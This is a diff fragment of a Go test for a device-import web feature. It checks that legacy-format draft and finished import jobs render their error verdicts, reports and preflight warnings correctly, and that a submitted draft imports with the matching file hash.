+	draft := &store.ImportJob{TenantID: demoidp.DemoTenantID, ObjectID: demoidp.AdminObjectID, ActorUPN: "AdeleV@contoso.example", State: "draft", Payload: payload}
+	if err := d.app.db.CreateImportJob(ctx, draft, nil); err != nil {
+		t.Fatal(err)
+	}
+	done := map[string]any{"rows": []map[string]any{{"line": 2, "serial": "SN-OLD-2", "hashShown": "abcd…wxyz"}, {"line": 3, "serial": "SN-OLD-3", "hashShown": "abcd…wxyz"}},
+		"devices": []map[string]any{{"id": "7f1b5c2e-3a4d-4e6f-8a9b-0c1d2e3f4a5b", "serial": "SN-OLD-2", "status": "error", "errorCode": 808, "errorName": "ZtdDeviceAssignedToOtherTenant", "batch": 1}}}
+	payload, _ = json.Marshal(done)
+	finished := &store.ImportJob{TenantID: demoidp.DemoTenantID, ObjectID: demoidp.AdminObjectID, ActorUPN: "AdeleV@contoso.example", State: "finished", Payload: payload}
+	if err := d.app.db.CreateImportJob(ctx, finished, nil); err != nil {
+		t.Fatal(err)
+	}
+
+	_, doc := d.get(b, "/devices/import/"+finished.ID)
+	if !strings.Contains(doc.Find(`tr[data-verdict="error"]`).Text(), "808") || doc.Find(`tr[data-verdict="left-out"]`).Length() != 1 {
+		t.Errorf("the finished job of the earlier format: %.500s", text(doc))
+	}
+	if rows := report(t, d, b, "/devices/import/"+finished.ID); len(rows) != 3 || rows[1][5] != "808" {
+		t.Errorf("its report: %q", rows)
+	}
+	job := "/devices/import/" + draft.ID
+	_, doc = d.get(b, job)
+	if doc.Find(`[data-testid="preflight"] tbody tr`).Length() != 2 || !strings.Contains(text(doc), "byte order mark") {
+		t.Fatalf("the draft of the earlier format: %.500s", text(doc))
+	}
+	d.post(b, job+"/submit", submitForm(t, d, b, job))
+	doc = waitFinished(t, d, b, job)
+	if doc.Find(`tr[data-verdict="imported"]`).Length() != 1 {
+		t.Errorf("the draft of the earlier format did not import: %.500s", text(doc))
+	}
+	for _, r := range d.received() {
+		if strings.HasSuffix(r.Path, "/import") && !strings.Contains(string(r.Body), hash) {
+			t.Error("the hash sent is not the one of the file")
+		}
+	}
+}
